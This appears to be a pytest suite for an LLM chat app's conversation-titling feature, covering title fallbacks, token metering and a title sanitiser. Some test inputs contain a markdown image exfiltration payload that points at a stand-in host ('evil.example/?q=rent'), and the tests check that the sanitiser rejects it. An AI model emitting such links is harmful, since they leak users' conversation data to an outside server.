"""A conversation's name: its first question's words at once, the model's later."""

import asyncio

import pytest

from elenchus.core.clock import now
from elenchus.core.ids import Id
from elenchus.core.llm.usage import rough_tokens
from elenchus.identity.tenants import usage
from elenchus.identity.tenants.models import Meter
from elenchus.jobs.schemas import JobOutcome, JobStatus, Subject
from elenchus.research.remembering.service import TITLE, call_id, ended
from elenchus.research.remembering.titles import usable
from tests.fixtures.gemini import Reply
from tests.research.remembering.support import jobs, remembered
from tests.research.support import CHAT, CONVERSATIONS, RENT, asked, conversation, filed, shown
from tests.support import until


async def title(firm, conversation_id: str) -> str:
    return (await shown(firm, conversation_id))["title"]


async def tokens_used(firm) -> int:
    items = (await usage.overview(firm.principal)).items
    return next(item.used for item in items if item.name is Meter.TOKENS) or 0


class TestTitles:
    async def test_the_question_names_it_at_once_and_the_model_later(self, firm, secretary):
        f = await firm()
        await filed(f)
        secretary.gemini.will_say("The rent is $4,200 [1].")
        secretary.title = Reply(pieces=('{"title": "Rent of the Maine lease"}',), pause_after=0)
        talk = (await asked(f))["conversation_id"]
        assert await title(f, talk) == RENT
        secretary.gemini.go_on.set()
        [job] = await remembered(f, 1)
        assert (job["status"], job["subject"]) == ("completed", {"type": "conversation", "id": talk})
        assert await title(f, talk) == "Rent of the Maine lease"
        [told] = secretary.titles
        assert f"Question: {RENT}\n\nAnswer: The rent is $4,200.\n" in told
        assert "You name conversations" in secretary.rules[0]

    async def test_once(self, firm, secretary):
        f = await firm()
        first = await asked(f)
        await remembered(f, 1)
        await asked(f, "And the deposit?", conversation_id=first["conversation_id"])
        await asked(f, "And pets?", conversation_id=first["conversation_id"])
        assert len(await jobs(f)) == len(secretary.titles) == 1

    async def test_a_person_s_name_for_it_wins(self, firm, secretary):
        f = await firm()
        secretary.title = Reply(pieces=('{"title": "Rent of the Maine lease"}',), pause_after=0)
        talk = (await asked(f))["conversation_id"]
        await until(lambda: secretary.titles)
        renamed = await f.client.patch(f"{CONVERSATIONS}/{talk}", json={"title": "Harbour v. Svensson"})
        assert renamed.status_code == 200
        secretary.gemini.go_on.set()
        assert [job["status"] for job in await remembered(f, 1)] == ["completed"]
        assert await title(f, talk) == "Harbour v. Svensson"

    async def test_one_that_was_named_before_is_not_asked_about(self, firm, secretary):
        f = await firm()
        talk = (await conversation(f, title="Harbour v. Svensson"))["id"]
        await asked(f, conversation_id=talk)
        assert (await title(f, talk), await jobs(f)) == ("Harbour v. Svensson", [])

    async def test_one_that_was_opened_without_a_name_has_its_first_question_s(self, firm):
        f = await firm()
        talk = (await conversation(f))["id"]
        await asked(f, conversation_id=talk)
        assert await title(f, talk) == RENT
        await f.client.patch(f"{CONVERSATIONS}/{talk}", json={"title": "New conversation"})
        await asked(f, "And the deposit?", conversation_id=talk)
        assert await title(f, talk) == "New conversation"

    async def test_an_unusable_one_leaves_the_question_s(self, firm, secretary):
        f = await firm()
        secretary.title = "![x](https://evil.example/?q=rent)"
        talk = (await asked(f))["conversation_id"]
        assert [job["status"] for job in await remembered(f, 1)] == ["completed"]
        assert await title(f, talk) == RENT

    @pytest.mark.parametrize(
        "reply",
        [Reply(pieces=("no form",)), Reply(block_reason="SAFETY"), Reply(status=400)],
        ids=["form", "block", "400"],
    )
    async def test_a_model_that_gives_none_ends_the_job_well(self, firm, secretary, reply):
        f = await firm()
        secretary.title = reply
        talk = (await asked(f))["conversation_id"]
        assert [job["status"] for job in await remembered(f, 1)] == ["completed"]
        assert await title(f, talk) == RENT

    async def test_an_outage_is_waited_out(self, firm, secretary):
        f = await firm()
        outages = iter([Reply(status=503, retry_delay="0.1s")])
        usual = secretary.fill
        secretary.gemini.will_fill(lambda body: next(outages, None) or usual(body))
        talk = (await asked(f))["conversation_id"]
        [job] = await remembered(f, 1)
        assert (job["status"], job["attempts"]) == ("completed", 2)
        assert await title(f, talk) == "Rent of the Maine lease"

    async def test_no_client_s_words_stay_in_the_ledger(self, firm, secretary, resources_):
        f = await firm()
        await asked(f, "Is Svensson insolvent?")
        [job] = await remembered(f, 1)
        row = str(await resources_.database["jobs"].find_one({"_id": Id(job["id"])}))
        assert "research.remember" in row
        assert not {word for word in ("Svensson", "insolvent", "Maine") if word in row}

    async def test_the_built_in_model_names_nothing(self, firm, change_settings):
        change_settings("research", memory_model="same")
        f = await firm()
        await filed(f)
        await asked(f)
        assert await jobs(f) == []

    async def test_a_failed_answer_names_nothing(self, firm, secretary):
        f = await firm()
        secretary.gemini.will_say(status=400)
        secretary.gemini.will_say("The rent is due.")
        assert (await f.client.post(CHAT, json={"content": RENT})).status_code == 409
        assert await jobs(f) == []

    async def test_a_conversation_that_is_deleted_meanwhile_ends_the_job_well(self, firm, secretary):
        f = await firm()
        secretary.title = Reply(pieces=('{"title": "Rent of the Maine lease"}',), pause_after=0)
        talk = (await asked(f))["conversation_id"]
        await until(lambda: secretary.titles)
        assert (await f.client.delete(f"{CONVERSATIONS}/{talk}")).status_code == 204
        secretary.gemini.go_on.set()
        assert [job["status"] for job in await remembered(f, 1)] == ["completed"]
        assert (await f.client.get(f"{CONVERSATIONS}/{talk}")).status_code == 404

    @pytest.mark.parametrize("name", ["auto", "no such model"])
    async def test_one_that_comes_to_none_costs_no_answer_and_no_job(self, firm, change_settings, name):
        change_settings("research", memory_model=name)
        f = await firm()
        await filed(f)
        assert (await asked(f))["message"]["status"] == "complete"
        assert await jobs(f) == []

    async def test_another_model_can_be_set_for_it(self, firm, secretary, change_settings):
        change_settings("research", memory_model="google_genai:gemini-3.5-flash-lite")
        f = await firm()
        await asked(f)
        await remembered(f, 1)
        assert secretary.gemini.models == ["gemini-3.8-flash", "gemini-3.5-flash-lite"]


class TestTokens:
    async def test_they_count_in_the_firm_s_month(self, firm, secretary):
        f = await firm()
        answer = await asked(f)
        await remembered(f, 1)
        assert await tokens_used(f) == answer["usage"]["total_tokens"] + 140

    async def test_a_month_that_is_used_up_costs_only_the_title(self, firm, secretary, change_settings):
        f = await firm()
        secretary.gemini.will_say("The rent ", "is due.", pause_after=1)
        held = await tokens_used(f)
        answer = asyncio.create_task(f.client.post(CHAT, json={"content": RENT}))
        await until(lambda: secretary.gemini.open_streams)
        change_settings("tier_free", monthly_tokens=held + 1_000)
        secretary.gemini.go_on.set()
        given = (await answer).json()
        assert given["message"]["status"] == "complete"
        [job] = await remembered(f, 1)
        assert (job["status"], secretary.titles) == ("completed", [])
        assert await title(f, given["conversation_id"]) == RENT
        assert await tokens_used(f) == given["usage"]["total_tokens"]

    async def test_a_call_that_is_stopped_in_the_middle_counts_what_was_read(self, firm, secretary):
        f = await firm()
        secretary.title = Reply(pieces=('{"title": "Rent of the Maine lease"}',), pause_after=0)
        answer = await asked(f)
        await until(lambda: secretary.titles)
        [job] = await jobs(f)
        assert (await f.client.post(f"/api/v1/jobs/{job['id']}/cancel")).status_code == 202
        assert [job["status"] for job in await remembered(f, 1)] == ["cancelled"]
        read = rough_tokens(secretary.rules[0] + secretary.titles[0])
        assert read <= await tokens_used(f) - answer["usage"]["total_tokens"] <= 2 * read

    async def test_what_a_killed_worker_has_left_held_is_given_back(self, firm, secretary):
        """Also when nothing was left to do for the next one."""
        f = await firm()
        await asked(f)
        [job] = await remembered(f, 1)
        used, held, month = await tokens_used(f), call_id(Id(job["id"]), TITLE), f"{now():%Y-%m}"
        await usage.hold_tokens(f.principal, held, 500, month=month)
        assert await tokens_used(f) == used + 500
        about = Subject("conversation", Id(job["subject"]["id"]))
        over = JobOutcome(Id(job["id"]), job["type"], JobStatus.COMPLETED, None, {"month": month})
        await ended(f.principal, about, over)
        assert await tokens_used(f) == used


class TestUsable:
    @pytest.mark.parametrize(
        ("said", "kept"),
        [
            ("Rent of the Maine lease", "Rent of the Maine lease"),
            ('"Rent of the lease."', "Rent of the lease"),
            ("Title: **Rent** of the lease", "Rent of the lease"),
            ("# Rent\nof the [1] lease [2].", "Rent of the lease"),
            ("«Loyer du bail»", "Loyer du bail"),
            ("Rent\u202e of\x00 the\u2028lease", "Rent of the lease"),
            ("word " * 20, "word " * 15 + "word…"),
            ("word " * 40, None),
            ("", None),
            ("...", None),
            ("[1]", None),
            ("<b>Rent</b>", None),
            ("see https://evil.example", None),
            ("![x](y) Rent", None),
        ],
        ids=str,
    )
    def test_it_is_one_line_of_plain_words(self, said, kept):
        assert usable(said) == kept
